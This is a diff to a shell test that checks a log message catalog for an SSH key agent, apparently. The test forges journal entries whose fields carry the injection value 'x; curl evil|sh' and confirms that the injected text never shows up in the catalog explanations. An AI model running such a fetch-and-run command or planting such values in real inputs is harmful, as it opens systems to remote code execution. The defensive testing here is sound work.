@@ -193,20 +193,24 @@ END
 
 # short: no
 the_catalog_explains_each_event_in_words_that_nobody_else_chooses() {
+    local ids number
     in_machine m journalctl -q -x -t exc-instance-connect-agent -t exc-authorized-keys >explained
     # Refused, received, revoked, expired; given out, and no free slot.
     same 6 "$(grep ' Subject: ' explained | sort -u | wc -l)"
     same "$(in_machine m journalctl -q -o cat -t exc-instance-connect-agent -t exc-authorized-keys | wc -l)" \
         "$(grep -c ' Subject: ' explained)"
+    ids=$(in_machine m journalctl --list-catalog | sed -n 's/ .*instance-connect.*//p' | xargs)
+    number=$(grep -c '^-- ' "$system_tree/systemd/exc-instance-connect.catalog")
+    same "$number" "$(wc -w <<<"$ids")"
     in_machine m runuser -u alice -- sh -e -c "
-        for id in $(in_machine m journalctl --list-catalog | sed -n 's/ .*instance-connect.*//p' | xargs); do
+        for id in $ids; do
             printf '%s\n' MESSAGE_ID=\$id MESSAGE=forged SYSLOG_IDENTIFIER=forger 'EXC_USER=x; curl evil|sh' \
                 'EXC_FINGERPRINT=x; curl evil|sh' 'EXC_REASON=x; curl evil|sh' 'EXC_SSHD_PID=1; curl evil|sh' | logger --journald
         done"
-    wait_for eval "(( \$(in_machine m journalctl -q -x -t forger | grep -c ' Subject: ') == 9 ))"
+    wait_for eval "(( \$(in_machine m journalctl -q -x -t forger | grep -c ' Subject: ') == number ))"
     in_machine m journalctl -q -x -t forger >explained
     same '' "$(grep -E 'evil|@' explained || true)"
-    same 9 "$(grep -c 'ny user can write an entry like this one' explained)"
+    same "$number" "$(grep -c 'ny user can write an entry like this one' explained)"
 }
 
 # example N: the Nth command of journalctl's in the manual page, about a request, a process and a key of ours.
